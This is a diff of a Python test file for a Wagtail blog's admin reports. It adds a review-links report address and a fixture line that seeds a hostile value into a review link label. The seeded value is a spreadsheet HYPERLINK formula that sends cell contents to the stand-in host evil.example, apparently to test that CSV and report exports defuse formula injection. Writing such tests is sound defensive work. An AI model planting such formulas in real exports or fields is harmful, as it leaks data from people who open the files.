@@ -14,6 +14,7 @@ from wagtail.models import Workflow
 
 from blog.desk import exporting
 from blog.models import OutboxEntry, PostPage
+from review.links import make_review_link
 from tests.factories import make_author, make_post
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
@@ -28,6 +29,7 @@ ADDRESSES = [
     "/admin/reports/site-history/",
     "/admin/reports/aging-pages/",
     "/admin/reports/deliveries/",
+    "/admin/reports/review-links/",
     "/admin/redirects/",
 ]
 
@@ -47,6 +49,7 @@ def hostile_admin(admin, admin_user, engineers):
     Workflow.objects.get(active=True).start(PostPage.objects.get(slug="hostile-1"), admin_user)
     Redirect.objects.create(old_path=FORMULA, redirect_link=FORMULA)
     OutboxEntry.objects.create(kind="purge", key=FORMULA, what=FORMULA, problem=FORMULA)
+    make_review_link(post, label=FORMULA, made_by=admin_user)
     return admin
 
 
